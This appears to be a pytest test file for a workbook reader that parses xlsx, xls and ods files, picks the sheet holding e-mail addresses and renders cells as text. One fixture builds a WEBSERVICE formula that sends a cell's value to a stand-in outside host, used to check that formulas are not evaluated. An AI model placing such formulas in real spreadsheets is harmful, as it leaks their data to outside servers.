"""Workbooks: which sheet is read, what its cells say, and who made it."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlwt

from books import FIRST_SHEET, PEOPLE, ods, sheet_part, text_cell, with_part, xlsx
from optindesk.core.sheet import FORMULA, Reading
from optindesk.files.sheet_text import Limits, Refused

Reader = Callable[..., Any]
SHEETS = Path(__file__).parents[1] / "sheets"


def xls(rows: list[list[Any]]) -> bytes:
    book = xlwt.Workbook()
    sheet = book.add_sheet("Markt")
    for number, row in enumerate(rows):
        for column, value in enumerate(row):
            style = xlwt.easyxf(num_format_str="DD.MM.YYYY") if isinstance(value, date) else None
            sheet.write(number, column, value, *([style] if style else []))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_formula_without_a_value_is_seen_and_one_with_a_value_says_it(read: Reader) -> None:
    formula = '=LOWER("A")&"<@x.example"'
    rows = [["E-Mail", "Name"], [formula, "Ana"], ["b@x.example", "=A2"], [formula, "=A3"]]
    found = read(xlsx({"First & last": [["x"]], "A & B": rows}), reading=Reading(sheet="A & B"))
    assert found.cells == [
        [f'{FORMULA}LOWER("A")&"<@x.example"', "Ana"],
        ["b@x.example", f"{FORMULA}A2"],
    ], "a row of nothing else is empty"
    value = '<c r="A2" t="str"><f>B1</f><v>a@x.example</v></c>'
    part = sheet_part(f'<row r="1">{text_cell("A1", "E-Mail")}</row><row r="2">{value}</row>')
    saved = read(with_part(xlsx({"A": rows}), FIRST_SHEET, part))
    assert saved.cells == [["a@x.example"]]


@pytest.mark.parametrize("content", [xlsx({"Markt": PEOPLE}), xls(PEOPLE), ods(PEOPLE)])
def test_a_workbook_of_any_kind_is_read_as_text_is(content: bytes, read: Reader) -> None:
    found = read(content)
    assert found.head["kind"] == "book"
    assert found.head["columns"] == ["E-Mail", "Name"]
    assert (found.head["sheet"], found.head["sheets"]) == ("Markt", ("Markt",))
    assert found.head["header_row"] == 1
    assert found.rows == [(2, ["ana@x.example", "Ana Horvat"]), (3, ["ben@y.example", "Ben"])]


def test_a_spreadsheet_that_libreoffice_could_have_saved_is_read(read: Reader) -> None:
    # Made with odfpy: two header lines, a day, a number, a repeated cell, trailing empty rows.
    found = read((SHEETS / "market.ods").read_bytes())
    assert found.head["columns"][:3] == ["Wann", "E-Mail", "Name"]
    assert found.rows[0] == (4, ["2026-11-21", "ana@x.example", "Ana Horvat", "3", "3"])


def test_cells_are_read_as_a_person_sees_them(read: Reader) -> None:
    cells: dict[Any, str] = {
        date(2026, 11, 21): "2026-11-21",
        datetime.fromisoformat("2026-11-21T10:04"): "2026-11-21 10:04",
        datetime.fromisoformat("2026-11-21T10:04:30"): "2026-11-21 10:04:30",
        time(10, 4): "10:04",
        timedelta(hours=30, minutes=5): "30:05",
        5: "5",
        79100.0: "79100",
        1.1: "1.1",
        1e21: "1e+21",
        "=1+1": f"{FORMULA}1+1",
        "#N/A": "",
    }
    rows = [["E-Mail", "Was"], *(["ana@x.example", value] for value in [*cells, True, False])]
    assert [row[1] for row in read(xlsx({"A": rows})).cells] == [*cells.values(), "TRUE", "FALSE"]


def test_a_day_in_an_old_workbook_is_a_day(read: Reader) -> None:
    found = read(xls([["E-Mail", "Datum"], ["ana@x.example", date(2026, 11, 21)]]))
    assert found.cells == [["ana@x.example", "2026-11-21"]]
    assert found.head["of_dates"] == [1]


def test_a_formula_is_what_it_gave_when_the_file_was_saved(read: Reader) -> None:
    rows = (
        f'<row r="1">{text_cell("A1", "E-Mail")}</row><row r="2"><c r="A2" t="str">'
        '<f>WEBSERVICE("http://x.example/"&amp;B2)</f><v>ana@x.example</v></c></row>'
    )
    content = with_part(xlsx({"A": PEOPLE}), FIRST_SHEET, sheet_part(rows))
    assert read(content).cells == [["ana@x.example"]]


def test_the_first_sheet_with_addresses_is_read_unless_one_is_named(read: Reader) -> None:
    content = xlsx({"Notizen": [["Blumenmarkt"]], "Leer": [], "Leute": PEOPLE, "Alt": PEOPLE[:2]})
    found = read(content)
    assert found.head["sheet"] == "Leute"
    assert found.head["sheets"] == ("Notizen", "Leer", "Leute", "Alt")
    assert len(read(content, reading=Reading(sheet="Alt")).rows) == 1
    with pytest.raises(Refused, match="no_sheet"):
        read(content, reading=Reading(sheet="Neu"))
    with pytest.raises(Refused, match="empty"):
        read(content, reading=Reading(sheet="Leer"))


def test_a_hidden_sheet_is_read_only_if_no_other_has_addresses(read: Reader) -> None:
    assert read(xlsx({"H": PEOPLE[:2], "B": PEOPLE}, hidden=["H"])).head["sheet"] == "B"
    assert read(xlsx({"A": [["x"]], "H": PEOPLE}, hidden=["H"])).head["sheet"] == "H"


def test_without_any_address_the_first_sheet_that_is_not_empty_is_shown(read: Reader) -> None:
    assert read(xlsx({"Leer": [], "B": [["Name", "Telefon"]]})).head["sheet"] == "B"
    with pytest.raises(Refused, match="empty"):
        read(xlsx({"Leer": []}))


def test_rows_are_counted_as_the_spreadsheet_does(read: Reader) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["C3"], sheet["D3"], sheet["C7"], sheet["D7"] = "E-Mail", "Name", "ana@x.example", "Ana"
    out = io.BytesIO()
    book.save(out)
    found = read(out.getvalue())
    assert found.head["header_row"] == 3
    assert found.rows == [(7, ["ana@x.example", "Ana"])]


def test_a_sheet_without_worksheets_is_empty(read: Reader) -> None:
    book = openpyxl.Workbook()
    book.create_chartsheet("Torte")
    book.remove(book.worksheets[0])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(Refused, match="empty"):
        read(out.getvalue())


def test_a_cell_may_not_be_longer_in_a_workbook_either(read: Reader) -> None:
    content = xlsx({"A": [["E-Mail"], ["ana@x.example" + "x" * 30]]})
    with pytest.raises(Refused, match="cell") as refused:
        read(content, Limits(cell=40))
    assert refused.value.values == {"row": 2, "limit": 40}
